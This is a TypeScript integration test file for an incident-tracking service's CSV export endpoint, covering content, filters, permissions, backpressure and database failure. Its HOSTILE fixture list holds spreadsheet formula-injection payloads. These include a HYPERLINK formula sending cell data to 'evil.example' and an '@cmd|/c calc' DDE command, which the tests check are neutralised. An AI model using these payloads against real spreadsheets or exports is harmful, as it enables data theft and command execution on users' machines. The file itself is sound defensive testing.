// The incidents' CSV export (docs/contract.md §6, "Export"): GET /api/incidents/export for bearer clients and
// GET /api/trpc/incidents.export for the console's download. Its content (RFC 4180, hostile text neutralised
// for spreadsheets, times in UTC), the list's filters applied, who may read it, a bad filter refused before
// any byte, and, at 20,000 incidents of 2 KB each, a file written with backpressure: the server stops while
// the client reads nothing, holds no more than a page meanwhile, and stops reading the database when the
// client goes away. Real server, real database, real tokens.
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase, rowsOf, type Database } from '../../../db/client';
import { FaultProxy } from '../support/fault-proxy';
import { databaseUrlOf } from '../support/processes';
import { openConsoleSession } from '../support/console-session-helpers';
import {
  csvObjects,
  metricValue,
  parseCsv,
  retainedHeapBytes,
  settled,
  startDownload,
} from '../support/downloads';
import {
  expectFieldError,
  expectProblem,
  expectUnauthenticated,
  useTestApi,
  type Client,
} from '../support/http-helpers';
import {
  act,
  list,
  newProcessInstanceId,
  newReference,
  report,
  textArray,
  SEVERITIES,
  STATUSES,
} from '../support/incident-helpers';
import { accessTokenFor, api, createTestUser, onPostgres, startApiServer, unique } from '../support/helpers';
import { INCIDENT_CSV_COLUMNS } from '../../services/incidents/export-incidents';

const t = useTestApi();
let as: Client;
let adminToken: string;

const HEADER = INCIDENT_CSV_COLUMNS.map((c) => c.header);
const UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/;

/** Messages as an attacker would write them, and what a spreadsheet must be shown. */
const HOSTILE: [stored: string, shown: string][] = [
  ['=HYPERLINK("http://evil.example/?d="&A1,"open")', `'=HYPERLINK("http://evil.example/?d="&A1,"open")`],
  ['+SUM(1,2)', `'+SUM(1,2)`],
  ['-2+3', `'-2+3`],
  ['@cmd|/c calc', `'@cmd|/c calc`],
  ['\tTabbed', `'\tTabbed`],
  ['\rCarriage return first', `'\rCarriage return first`],
  ['plain, with a comma', 'plain, with a comma'],
  ['say "hi"', 'say "hi"'],
  ['two\nlines', 'two\nlines'],
  ['crlf\r\ninside', 'crlf\r\ninside'],
  ['unicode é ✓ 😀 \u202e', 'unicode é ✓ 😀 \u202e'],
  ["'already quoted", "'already quoted"],
  ['a=b is fine inside', 'a=b is fine inside'],
];

async function download(path: string, token = adminToken) {
  const res = await t.call('GET', path, { token });
  return res;
}

describe('content', () => {
  const node = unique('Task_Export_');
  const ids: number[] = [];

  beforeAll(async () => {
    adminToken = (await t.admin()).token;
    as = t.as(adminToken);
    for (const [stored] of HOSTILE) {
      const incident = await report(as, {
        nodeId: node,
        message: `placeholder ${ids.length}`,
        severity: 'LOW',
      });
      // Stored as it is: the API trims a reported message, another writer (or an older version) may not.
      await t.database.db.execute(sql`update incidents set message = ${stored} where id = ${incident.id}`);
      ids.push(incident.id);
    }
  });

  it('is one RFC 4180 file: a header row, CRLF line ends, every hostile message quoted and neutralised', async () => {
    const res = await download(`/incidents/export?nodeId=${node}`);
    expect(res.status, res.text).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="incidents-\d{8}-\d{6}Z\.csv"$/,
    );
    expect(res.headers.get('cache-control')).toMatch(/no-store/);
    const records = parseCsv(res.text);
    expect(records[0]).toEqual(HEADER);
    const rows = csvObjects(res.text);
    // Newest first, by id.
    expect(rows.map((r) => Number(r.id))).toEqual([...ids].reverse());
    const shown = new Map(rows.map((r) => [Number(r.id), r.message]));
    HOSTILE.forEach(([, expected], i) => expect(shown.get(ids[i]), HOSTILE[i][0]).toBe(expected));
    // No cell of the file starts with a character a spreadsheet evaluates.
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes every column: times in UTC, nulls empty, numbers bare', async () => {
    const incident = await report(as, { nodeId: node, message: 'acknowledged one', severity: 'CRITICAL' });
    await act(as, 'acknowledge', incident.id, { acknowledgedBy: 'alice' });
    const [row] = csvObjects((await download(`/incidents/export?nodeId=${node}&severity=CRITICAL`)).text);
    const [stored] = rowsOf<{ created_at: Date | string; acknowledged_at: Date | string }>(
      await t.database.db.execute(
        sql`select created_at, acknowledged_at from incidents where id = ${incident.id}`,
      ),
    );
    expect(row).toMatchObject({
      id: String(incident.id),
      status: 'ACKNOWLEDGED',
      severity: 'CRITICAL',
      source: 'PROCESS_ENGINE',
      processInstanceId: String(incident.processInstanceId),
      nodeId: node,
      message: 'acknowledged one',
      externalReferenceId: incident.externalReferenceId,
      occurrenceCount: '1',
      acknowledgedBy: 'alice',
      resolvedAt: '',
      resolvedBy: '',
      resolutionAction: '',
      assignee: '',
      snoozedUntil: '',
    });
    for (const field of ['createdAt', 'lastOccurredAt', 'updatedAt', 'acknowledgedAt'])
      expect(row[field], field).toMatch(UTC);
    expect(row.createdAt).toBe(new Date(stored.created_at).toISOString().replace(/\.\d{3}Z$/, 'Z'));
    expect(row.acknowledgedAt).toBe(new Date(stored.acknowledged_at).toISOString().replace(/\.\d{3}Z$/, 'Z'));
  });

  it('is the header row alone when nothing matches', async () => {
    const res = await download(`/incidents/export?nodeId=${unique('Task_None_')}`);
    expect(res.status).toBe(200);
    expect(res.text).toBe(`${HEADER.join(',')}\r\n`);
  });

  it('answers HEAD with the headers alone', async () => {
    const res = await t.call('HEAD', `/incidents/export?nodeId=${node}`, { token: adminToken });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.text).toBe('');
  });
});

describe('filters', () => {
  const node = unique('Task_Filter_');
  beforeAll(async () => {
    adminToken ??= (await t.admin()).token;
    as = t.as(adminToken);
    for (let i = 0; i < 24; i++) {
      const incident = await report(as, {
        nodeId: node,
        severity: SEVERITIES[i % 4],
        source: i % 3 ? 'PROCESS_ENGINE' : 'CODE_TASK',
        message: i % 5 ? `filter row ${i}` : `needle ${i}`,
      });
      if (i % 3 === 1) await act(as, 'acknowledge', incident.id);
      if (i % 3 === 2) await act(as, 'resolve', incident.id);
    }
  });

  /** The ids the list answers for `query`, newest first by id (the export's order). */
  async function listed(query: string): Promise<number[]> {
    const found: number[] = [];
    for (let page = 0; ; page++) {
      const answer = await list(as, `${query}&size=100&page=${page}&sort=id,desc`);
      found.push(...answer.content.map((i) => i.id));
      if (answer.last) return found;
    }
  }

  it.each([
    ['status', 'status=OPEN,ACKNOWLEDGED'],
    ['severity', 'severity=HIGH&severity=CRITICAL'],
    ['source and status', 'source=CODE_TASK&status=OPEN'],
    ['text', 'q=needle'],
    ['creation range', `createdFrom=2000-01-01&createdTo=2100-01-01`],
  ])('by %s: exactly what the list finds', async (_, filter) => {
    const query = `nodeId=${node}&${filter}`;
    const expected = await listed(query);
    expect(expected.length).toBeGreaterThan(0);
    const rows = csvObjects((await download(`/incidents/export?${query}`)).text);
    expect(rows.map((r) => Number(r.id))).toEqual(expected);
  });

  it('ignores paging and order: the whole selection, newest first', async () => {
    const all = csvObjects(
      (await download(`/incidents/export?nodeId=${node}&page=3&size=1&sort=severity`)).text,
    );
    expect(all.map((r) => Number(r.id))).toEqual(await listed(`nodeId=${node}`));
    expect(all).toHaveLength(24);
  });

  it('refuses a bad filter with a 400 problem before any byte of a file', async () => {
    expectFieldError(await download('/incidents/export?status=NOPE'), 'status');
    expectFieldError(await download('/incidents/export?format=xlsx'), 'format');
    expectFieldError(await download('/incidents/export?group=nope'), 'group');
    expectFieldError(
      await download('/incidents/export?createdFrom=2026-11-02&createdTo=2026-11-01'),
      'createdTo',
    );
  });
});

describe('who may export', () => {
  it('needs ACCESS_BPM_ADMIN, a token whose scope reads incidents, and never the cookie on REST', async () => {
    expectUnauthenticated(await t.call('GET', '/incidents/export'));
    const engine = await t.actor(['ACCESS_ENGINE_API']);
    expectProblem(await download('/incidents/export', engine.token), 403, 'FORBIDDEN');
    const holder = await t.admin();
    for (const scope of ['WORKER', 'METRICS'] as const) {
      const { id, token } = await t.apiTokenFor(holder.id);
      await t.database.db.execute(sql`update api_tokens set scope = ${scope} where id = ${id}`);
      expectProblem(await download('/incidents/export', token), 403, 'FORBIDDEN');
    }
    for (const scope of ['INCIDENTS', 'READ_ONLY', 'FULL'] as const) {
      const { id, token } = await t.apiTokenFor(holder.id);
      await t.database.db.execute(sql`update api_tokens set scope = ${scope} where id = ${id}`);
      expect((await download('/incidents/export', token)).status, scope).toBe(200);
    }
    const { cookie } = await openConsoleSession(t.database, holder.user);
    expectUnauthenticated(
      await t.call('GET', '/incidents/export', { headers: { cookie, 'sec-fetch-site': 'same-origin' } }),
    );
  });

  it('downloads for the console at /api/trpc/incidents.export with its cookie, from its own pages only', async () => {
    const holder = await t.admin();
    const node = unique('Task_Console_');
    await report(t.as(holder.token), { nodeId: node, message: '=1+1' });
    const { cookie } = await openConsoleSession(t.database, holder.user);
    const path = `/trpc/incidents.export?input=${encodeURIComponent(JSON.stringify({ nodeId: [node] }))}`;
    const sameOrigin = await t.call('GET', path, { headers: { cookie, 'sec-fetch-site': 'same-origin' } });
    expect(sameOrigin.status, sameOrigin.text).toBe(200);
    expect(sameOrigin.headers.get('content-disposition')).toMatch(/^attachment; filename="incidents-/);
    expect(csvObjects(sameOrigin.text).map((r) => r.message)).toEqual(["'=1+1"]);
    // A link on another site (or typed in the address bar) does not carry the session.
    for (const site of ['cross-site', 'same-site', 'none'])
      expectUnauthenticated(await t.call('GET', path, { headers: { cookie, 'sec-fetch-site': site } }));
    // A bad filter: the problem, before any byte.
    const bad = `/trpc/incidents.export?input=${encodeURIComponent(JSON.stringify({ status: ['NOPE'] }))}`;
    expectFieldError(
      await t.call('GET', bad, { headers: { cookie, 'sec-fetch-site': 'same-origin' } }),
      'status',
    );
    // Never in a batch, never by POST.
    expectProblem(
      await t.call(
        'GET',
        `/trpc/incidents.export,incidents.summary?batch=1&input=${encodeURIComponent('{}')}`,
        {
          headers: { cookie, 'sec-fetch-site': 'same-origin' },
        },
      ),
      400,
      'VALIDATION_FAILED',
    );
    expectProblem(
      await t.call('POST', '/trpc/incidents.export', {
        headers: { cookie, 'sec-fetch-site': 'same-origin' },
        body: {},
      }),
      405,
      'METHOD_NOT_ALLOWED',
    );
  });
});

describe('20,000 incidents', () => {
  const N = 20_000;
  const node = unique('Task_Large_');
  /** 2 KB a message: the file is about 42 MB, far more than the socket buffers hold. */
  const PADDING = 'x'.repeat(2_000);
  let fileBytes = 0;

  beforeAll(async () => {
    adminToken ??= (await t.admin()).token;
    const pid = newProcessInstanceId();
    const reference = newReference('large');
    for (let from = 1; from <= N; from += 1_000) {
      await t.database.db.execute(sql`
        insert into incidents (process_instance_id, node_id, status, severity, source, message, technical_details,
          external_reference_id, occurrence_count, last_occurred_at, created_at, updated_at)
        select ${pid}::bigint, ${node}, (${textArray(STATUSES)}::incident_status[])[1 + g % 3], 'HIGH', 'WORKER',
               '=large ' || g || ' ' || ${PADDING}, '', ${reference} || '-' || g, 1, now(), now(), now()
        from generate_series(${from}::int, ${from + 999}::int) g`);
    }
  }, 120_000);

  const url = () => `${t.url}/api/incidents/export?nodeId=${node}`;
  const auth = () => ({ authorization: `Bearer ${adminToken}` });

  it('is written whole: every incident once, newest first', async () => {
    const download = await startDownload(url(), auth());
    const text = await download.readAll();
    fileBytes = Buffer.byteLength(text);
    const rows = csvObjects(text);
    expect(rows).toHaveLength(N);
    const ids = rows.map((r) => Number(r.id));
    expect(ids.every((id, i) => i === 0 || id < ids[i - 1])).toBe(true);
    expect(rows[0].message).toMatch(/^'=large \d+ x+$/);
  }, 120_000);

  it('waits for a client that reads nothing, holding one page, then goes on', async () => {
    const bytesBefore = await metricValue('bpm_export_bytes_total');
    const heapBefore = retainedHeapBytes();
    const download = await startDownload(url(), auth());
    // The server writes until the socket's buffers are full, then waits.
    const written = (await settled(() => metricValue('bpm_export_bytes_total'))) - bytesBefore;
    expect(await metricValue('bpm_exports_open')).toBe(1);
    expect(written).toBeGreaterThan(0);
    expect(written, `${written} of ${fileBytes} bytes written to a client that read nothing`).toBeLessThan(
      fileBytes / 2,
    );
    // Meanwhile the process holds about a page (2 MB) more than before, not the file.
    const held = retainedHeapBytes() - heapBefore;
    expect(held, `${held} bytes held`).toBeLessThan(10 * 1024 * 1024);
    const text = await download.readAll();
    expect(Buffer.byteLength(text)).toBe(fileBytes);
    expect(await settled(() => metricValue('bpm_exports_open'))).toBe(0);
  }, 120_000);

  it('stops reading the database when the client goes away', async () => {
    const bytesBefore = await metricValue('bpm_export_bytes_total');
    const download = await startDownload(url(), auth());
    await settled(() => metricValue('bpm_export_bytes_total'));
    download.destroy();
    // The export ends (its query loop returned) without writing the rest.
    expect(await settled(() => metricValue('bpm_exports_open'))).toBe(0);
    const written = (await metricValue('bpm_export_bytes_total')) - bytesBefore;
    expect(written).toBeLessThan(fileBytes / 2);
  }, 120_000);
});

describe.runIf(onPostgres)('the database lost (PostgreSQL through a proxy that refuses)', () => {
  let proxy: FaultProxy & { url: string };
  let viaProxy: Database;
  let server: { url: string; close(): Promise<void> };
  let token: string;
  const node = unique('Task_Cut_');

  beforeAll(async () => {
    proxy = await FaultProxy.start(await databaseUrlOf(t.database));
    viaProxy = await openDatabase({ url: proxy.url });
    server = await startApiServer(viaProxy);
    token = await accessTokenFor(await createTestUser(t.database, { permissions: ['ACCESS_BPM_ADMIN'] }));
    await t.database.db.execute(sql`
      insert into incidents (process_instance_id, node_id, status, severity, source, message, technical_details,
        external_reference_id, occurrence_count, last_occurred_at, created_at, updated_at)
      select ${newProcessInstanceId()}::bigint, ${node}, 'OPEN', 'HIGH', 'WORKER', 'cut ' || g || ' ' || ${'y'.repeat(2_000)},
             '', ${newReference('cut')} || '-' || g, 1, now(), now(), now()
      from generate_series(1, 5000) g`);
  }, 60_000);
  afterAll(async () => {
    await server?.close();
    await viaProxy?.close().catch(() => undefined);
    await proxy?.close();
  });

  it('cuts the connection of an export under way: the client never sees a clean end', async () => {
    const download = await startDownload(`${server.url}/api/incidents/export?nodeId=${node}`, {
      authorization: `Bearer ${token}`,
    });
    expect(download.response.statusCode).toBe(200);
    await settled(() => metricValue('bpm_export_bytes_total'));
    await proxy.refuse();
    await expect(download.readAll()).rejects.toThrow();
    expect(download.response.complete).toBe(false);
  }, 60_000);

  it('answers 503 before any byte when the first page cannot be read', async () => {
    const res = await api(server.url, 'GET', `/incidents/export?nodeId=${node}`, { token });
    expect(res.status, res.text).toBe(503);
    expect(res.body.code).toBe('DATABASE_UNAVAILABLE');
    expect(res.headers.get('content-disposition')).toBeNull();
  }, 60_000);
});
